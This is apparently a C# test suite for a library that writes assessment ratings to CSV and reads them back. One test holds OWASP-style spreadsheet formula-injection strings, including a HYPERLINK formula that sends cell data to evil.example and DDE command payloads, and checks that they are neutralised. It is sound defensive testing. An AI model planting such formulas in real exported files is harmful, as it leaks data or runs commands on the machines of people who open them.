using System.Text;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;
using IntegrationFramework.Assessments;
using IntegrationFramework.Collections;
using IntegrationFramework.Geography;
using IntegrationFramework.Intake;
using IntegrationFramework.Partners;
using IntegrationFramework.Problems;
using IntegrationFramework.Scoring;
using IntegrationFramework.Serialization;
using IntegrationFramework.Tests.TestSupport;
using NodaTime;

namespace IntegrationFramework.Tests.Serialization;

public sealed class RatingsCsvTests
{
    private static readonly Assessment Croydon = AssessmentBuilder
        .For(Frameworks.ShiftingTheCentreOfGravity2018, new Footprint("E09000008", "Croydon", Level.Place, 386_710, "QWE"), new LocalDate(2018, 10, 1))
        .WithAssessor("council", "Croydon Council", PartnerKind.Council)
        .WithAssessor("vcse", "Croydon Voluntary Action, \"CVA\"", PartnerKind.Vcse)
        .Rate("TRA.1", "council", Progress.InPlace, Progress.Embedded, "Alliance agreement, 10 years.\nSigned 2017.")
        .Rate("TRA.1", "vcse", Progress.NotApplicable)
        .Rate("INF.2", "vcse", Progress.Planned)
        .Excluding("INF")
        .Build();

    private const string Header = "framework,footprint_code,footprint_name,footprint_level,population,parent_code,assessed_on,assessor,assessor_name,partner,theme,domain,in_scope,item,progress,level_number,target,evidence\r\n";

    [Fact]
    public void Each_rating_is_a_row_with_its_footprint_date_assessor_theme_domain_and_item()
    {
        Assert.Equal(
            Header
            + "shifting-the-centre-of-gravity-2018,E09000008,Croydon,place,386710,QWE,2018-10-01,council,Croydon Council,council,SO,TRA,true,TRA.1,inPlace,3,embedded,\"Alliance agreement, 10 years.\nSigned 2017.\"\r\n"
            + "shifting-the-centre-of-gravity-2018,E09000008,Croydon,place,386710,QWE,2018-10-01,vcse,\"Croydon Voluntary Action, \"\"CVA\"\"\",vcse,SO,TRA,true,TRA.1,notApplicable,,,\r\n"
            + "shifting-the-centre-of-gravity-2018,E09000008,Croydon,place,386710,QWE,2018-10-01,vcse,\"Croydon Voluntary Action, \"\"CVA\"\"\",vcse,SS,INF,false,INF.2,planned,1,,\r\n",
            RatingsCsv.Serialize(Croydon));
    }

    [Fact]
    public void The_table_reads_back_as_the_same_assessment()
    {
        var result = RatingsCsv.Parse(RatingsCsv.Serialize(Croydon));

        Assert.Empty(result.Problems);
        Assert.Equal(Croydon, result.Value);
        Assert.Equal(Scorer.Score(Croydon), Scorer.Score(result.Value!));
        Assert.Equal(Croydon, FileIntake.Default.Read("croydon.csv", new MemoryStream(System.Text.Encoding.UTF8.GetBytes(RatingsCsv.Serialize(Croydon)))).Value);
    }

    [Fact]
    public void Text_a_spreadsheet_would_run_is_written_inert_and_reads_back_as_it_was()
    {
        // Evidence, names and a rationale as a partner or an attacker might type them (OWASP's CSV injection examples).
        string[] hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "-2.5"];
        var builder = AssessmentBuilder
            .For(Frameworks.ShiftingTheCentreOfGravity2018, new Footprint("E09000008", "=Croydon", Level.Place, 386_710, "+QWE"), new LocalDate(2018, 10, 1))
            .WithAssessor("council", "@Croydon Council", PartnerKind.Council);
        string[] items = ["TRA.1", "TRA.2", "TRA.3", "TRA.4", "TRA.5", "TRA.6", "TRA.7", "PCC.1"];
        foreach (var (item, evidence) in items.Zip(hostile))
        {
            builder = builder.Rate(item, "council", Progress.InPlace, evidence: evidence);
        }

        var assessment = builder.Build();
        var csv = RatingsCsv.Serialize(assessment);
        var (records, error, _) = Csv.Parse(csv);

        Assert.Null(error);
        Assert.All(records.SelectMany(r => r.Fields), field => Assert.False(
            field.Length > 0 && "=+-@\t\r".Contains(field[0], StringComparison.Ordinal) && !double.TryParse(field, System.Globalization.CultureInfo.InvariantCulture, out _),
            $"'{field}' would run as a formula"));
        Assert.Contains("'=HYPERLINK(", csv, StringComparison.Ordinal);
        Assert.Contains(",-2.5\r\n", csv, StringComparison.Ordinal);
        var read = RatingsCsv.Parse(csv);
        Assert.Empty(read.Problems);
        Assert.Equal(assessment, read.Value);
        Assert.Equal(items.Zip(hostile).ToDictionary(p => p.First, p => (string?)p.Second), read.Value!.Ratings.ToDictionary(r => r.ItemId, r => r.Evidence));
        Assert.Equal(("=Croydon", "+QWE", "@Croydon Council"), (read.Value.Footprint.Name, read.Value.Footprint.ParentCode, read.Value.Assessors[0].Name));
    }

    [Fact]
    public void Problems_point_at_the_line_and_column()
    {
        var csv = RatingsCsv.Serialize(Croydon)
            .Replace("council,SO,TRA,true,TRA.1,inPlace", "council,SO,TRA,true,TRA.1,InPlace", StringComparison.Ordinal)
            .Replace("TRA.1,notApplicable", "TRA.9,notApplicable", StringComparison.Ordinal);

        var result = RatingsCsv.Parse(csv);

        Assert.Null(result.Value);
        Assert.Equal(
            [new Problem(ProblemCodes.UnknownValue, ProblemLocation.InTable(2, "progress"), "'InPlace' is not a progress value; use one of notStarted, planned, underDevelopment, inPlace, embedded, notApplicable.")],
            result.Problems);
        // The first rating's evidence holds a line break, so its row spans lines 2 and 3: lines are those an editor shows.
        var unknownItem = RatingsCsv.Parse(RatingsCsv.Serialize(Croydon).Replace("TRA.1,notApplicable", "TRA.9,notApplicable", StringComparison.Ordinal));
        Assert.Equal(new Problem(ProblemCodes.UnknownItem, ProblemLocation.InTable(4, "item"), "Item 'TRA.9' is not in the shifting-the-centre-of-gravity-2018 checklist; domain TRA has items TRA.1 to TRA.7."), Assert.Single(unknownItem.Problems));
    }

    [Fact]
    public void A_table_with_missing_columns_a_short_row_or_two_footprints_is_refused()
    {
        var lines = RatingsCsv.Serialize(Croydon).Split("\r\n");

        Assert.Equal(
            "The header has no 'progress' column; the columns are framework, footprint_code, footprint_name, footprint_level, population, parent_code, assessed_on, assessor, assessor_name, partner, theme, domain, in_scope, item, progress, level_number, target, evidence.",
            Assert.Single(RatingsCsv.Parse(lines[0].Replace(",progress,", ",state,", StringComparison.Ordinal) + "\r\n").Errors).Message);
        Assert.Equal("Line 5 has 3 fields; the header has 18.", Assert.Single(RatingsCsv.Parse($"{lines[0]}\r\n{lines[1]}\n{lines[2]}\r\na,b,c\r\n").Problems).Message);
        Assert.Equal(
            new Problem(ProblemCodes.InvalidValue, ProblemLocation.InTable(5, "footprint_code"), "'E06000026' differs from the first row's 'E09000008'; a table holds the ratings of one assessment."),
            Assert.Single(RatingsCsv.Parse(RatingsCsv.Serialize(Croydon).Replace("E09000008,Croydon,place,386710,QWE,2018-10-01,vcse,\"Croydon Voluntary Action, \"\"CVA\"\"\",vcse,SS", "E06000026,Croydon,place,386710,QWE,2018-10-01,vcse,\"Croydon Voluntary Action, \"\"CVA\"\"\",vcse,SS", StringComparison.Ordinal)).Problems));
    }

    [Fact]
    public void A_short_first_row_is_a_problem_not_a_crash()
    {
        // Found by the table fuzzing: the first row sets the date that the later rows are checked against.
        var lines = RatingsCsv.Serialize(Croydon).Split("\r\n");

        var result = RatingsCsv.Parse($"{lines[0]}\r\na,b,c\r\n{lines[2]}\r\n");

        Assert.Null(result.Value);
        Assert.Contains(new Problem(ProblemCodes.InvalidValue, ProblemLocation.InTable(2), "Line 2 has 3 fields; the header has 18."), result.Problems);
    }

    [Theory]
    [InlineData(';', "semicolons")]
    [InlineData('\t', "tabs")]
    public void A_table_separated_by_semicolons_or_tabs_is_read_with_a_warning(char separator, string named)
    {
        // What Excel saves in many locales: the same table, another separator (quoted fields keep their commas).
        var csv = string.Join("\r\n", RatingsCsv.Serialize(Croydon).Split("\r\n").Select(line => Resplit(line, separator)));

        var result = RatingsCsv.Parse(csv);

        Assert.Equal(Croydon, result.Value);
        Assert.Equal([new Problem(ProblemCodes.OtherSeparator, ProblemLocation.InTable(1), $"The table is separated by {named}, not commas; it was read so, but ratings tables are written with commas.", ProblemSeverity.Warning)], result.Problems);
    }

    [Fact]
    public void A_table_saved_as_utf16_is_read_with_a_warning_and_without_a_mark_is_refused_in_one_line()
    {
        var text = RatingsCsv.Serialize(Croydon);

        var marked = RatingsCsv.Read([.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(text)]);
        var unmarked = RatingsCsv.Read(Encoding.Unicode.GetBytes(text));

        Assert.Equal(Croydon, marked.Value);
        Assert.Equal([ProblemCodes.OtherEncoding], marked.Problems.Select(p => p.Code));
        Assert.Equal(
            new Problem(ProblemCodes.NotUtf8, "$", "The file is UTF-16 (little-endian) without a byte-order mark, not UTF-8; save it as UTF-8 (in Excel: CSV UTF-8; in a text editor: UTF-8)."),
            Assert.Single(unmarked.Problems));
    }

    [Fact]
    public void An_assessment_file_given_as_a_table_says_what_it_is()
        => Assert.Equal(
            new Problem(ProblemCodes.WrongKindOfFile, "$", "The file is an assessment file, not a ratings table; a ratings table has a header row naming framework, footprint_code, assessor, item, progress and the other columns, and a row per rating."),
            Assert.Single(RatingsCsv.Read(AssessmentJson.SerializeToUtf8Bytes(Croydon)).Problems));

    /// <summary>A CSV line with its separating commas (not those inside quotes) replaced.</summary>
    private static string Resplit(string line, char separator)
    {
        var quoted = false;
        return string.Concat(line.Select(c =>
        {
            quoted ^= c == '"';
            return c == ',' && !quoted ? separator : c;
        }));
    }

    [Theory]
    [InlineData("", "line 1", "The table is empty; it needs a header row and a row for each rating.")]
    [InlineData(Header, "line 2", "The table has no ratings; the footprint, date and framework are read from the rating rows, so it needs at least one.")]
    public void An_empty_table_is_refused(string csv, string path, string message)
        => Assert.Equal((ProblemCodes.MissingValue, path, message), Assert.Single(RatingsCsv.Parse(csv).Problems) is var p ? (p.Code, p.Path, p.Message) : default);

    [Fact]
    public void Unknown_columns_are_warnings()
    {
        var csv = RatingsCsv.Serialize(Croydon).Split("\r\n").Select((line, i) => line.Length == 0 ? line : line + (i == 0 ? ",notes" : ",x")).Aggregate((a, b) => a + "\r\n" + b);

        var result = RatingsCsv.Parse(csv);

        Assert.Equal(Croydon, result.Value);
        Assert.Equal([new Problem(ProblemCodes.UnknownProperty, ProblemLocation.InTable(1, "notes"), "'notes' is not a column this library knows; it is ignored.", ProblemSeverity.Warning)], result.Problems);
    }

    [Property(Arbitrary = [typeof(ScoringArbitraries)], MaxTest = 1000)]
    public Property Every_assessment_reads_back_with_only_what_a_table_cannot_show_left_out(Assessment assessment)
    {
        var raters = assessment.Ratings.Select(r => r.AssessorId).Distinct().ToList();
        var rated = assessment.Ratings.Select(r => r.ItemId.Split('.')[0]).Distinct().ToList();
        var expected = new Assessment(assessment.Framework,
            assessment.Footprint,
            assessment.AssessedOn,
            raters.Select(id => assessment.Assessors.Single(a => a.Id == id)).ToEquatableArray(),
            assessment.Ratings,
            rated.Where(assessment.ExcludedDomains.Contains).ToEquatableArray());
        return Prop.When(!assessment.Ratings.IsEmpty, () =>
        {
            var result = RatingsCsv.Parse(RatingsCsv.Serialize(assessment));

            Assert.Empty(result.Problems);
            Assert.Equal(expected, result.Value);
            if (expected.Assessors.Count == assessment.Assessors.Count && expected.ExcludedDomains.Count == assessment.ExcludedDomains.Count)
            {
                Assert.Equal(Scorer.Score(assessment), Scorer.Score(result.Value!));
            }
        });
    }

    /// <summary>
    /// With the consensus meeting's agreed ratings, rows of their own: the table reads back with them, and scores as
    /// the assessment does, whatever was agreed.
    /// </summary>
    [Property(Arbitrary = [typeof(ScoringArbitraries)], MaxTest = 300)]
    public Property Agreed_ratings_are_rows_of_their_own_and_read_back(MetAssessment met)
    {
        var assessment = met.Value;
        var raters = assessment.Ratings.Select(r => r.AssessorId).Distinct().ToList();
        var rated = assessment.Ratings.Select(r => r.ItemId.Split('.')[0]).Concat(assessment.AgreedRatings.Select(a => a.ItemId.Split('.')[0])).Distinct().ToList();
        var expected = new Assessment(assessment.Framework,
            assessment.Footprint,
            assessment.AssessedOn,
            raters.Select(id => assessment.Assessors.Single(a => a.Id == id)).ToEquatableArray(),
            assessment.Ratings,
            rated.Where(assessment.ExcludedDomains.Contains).ToEquatableArray(),
            assessment.AgreedRatings);
        return Prop.When(!assessment.Ratings.IsEmpty, () =>
        {
            var csv = RatingsCsv.Serialize(assessment);
            var result = RatingsCsv.Parse(csv);

            Assert.Empty(result.Problems);
            Assert.Equal(expected, result.Value);
            Assert.Equal(assessment.AgreedRatings.IsEmpty, !csv.StartsWith(string.Join(',', [.. RatingsCsv.Columns, .. RatingsCsv.AgreedColumns]), StringComparison.Ordinal));
        });
    }

    [Fact]
    public void An_agreed_row_is_the_meetings_and_a_reader_that_ignores_its_columns_refuses_it()
    {
        var assessment = AssessmentBuilder
            .For(Frameworks.ShiftingTheCentreOfGravity2018, new Footprint("E09000008", "Croydon", Level.Place), new NodaTime.LocalDate(2026, 3, 2))
            .WithAssessor("council", "Croydon Council", PartnerKind.Council)
            .Rate("TRA.1", "council", Progress.Planned)
            .Agree("TRA.1", Progress.InPlace, "Signed, and \"in use\", since May.", new NodaTime.LocalDate(2026, 3, 16), "Croydon consensus workshop", Progress.Embedded)
            .Build();

        var lines = RatingsCsv.Serialize(assessment).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal("framework,footprint_code,footprint_name,footprint_level,population,parent_code,assessed_on,assessor,assessor_name,partner,theme,domain,in_scope,item,progress,level_number,target,evidence,agreed_on,agreed_by,rationale", lines[0]);
        Assert.Equal("shifting-the-centre-of-gravity-2018,E09000008,Croydon,place,,,2026-03-02,,,,SO,TRA,true,TRA.1,inPlace,3,embedded,,2026-03-16,Croydon consensus workshop,\"Signed, and \"\"in use\"\", since May.\"", lines[2]);
        // A partner's column on the meeting's row is refused; without the agreed columns, the row has no assessor.
        var withEvidence = string.Join("\r\n", lines[0], lines[1], lines[2].Replace(",,2026-03-16", ",Notes,2026-03-16", StringComparison.Ordinal));
        Assert.Equal("line 3, evidence", Assert.Single(RatingsCsv.Parse(withEvidence).Problems).Path);
        var withoutColumns = string.Join("\r\n", lines[0][..lines[0].IndexOf(",agreed_on", StringComparison.Ordinal)], lines[1][..^3], lines[2][..lines[2].IndexOf(",2026-03-16", StringComparison.Ordinal)]);
        var old = RatingsCsv.Parse(withoutColumns);
        Assert.Null(old.Value);
        Assert.Equal(["line 3, assessor", "line 3, assessor_name", "line 3, partner"], old.Problems.Select(p => p.Path));
    }
}
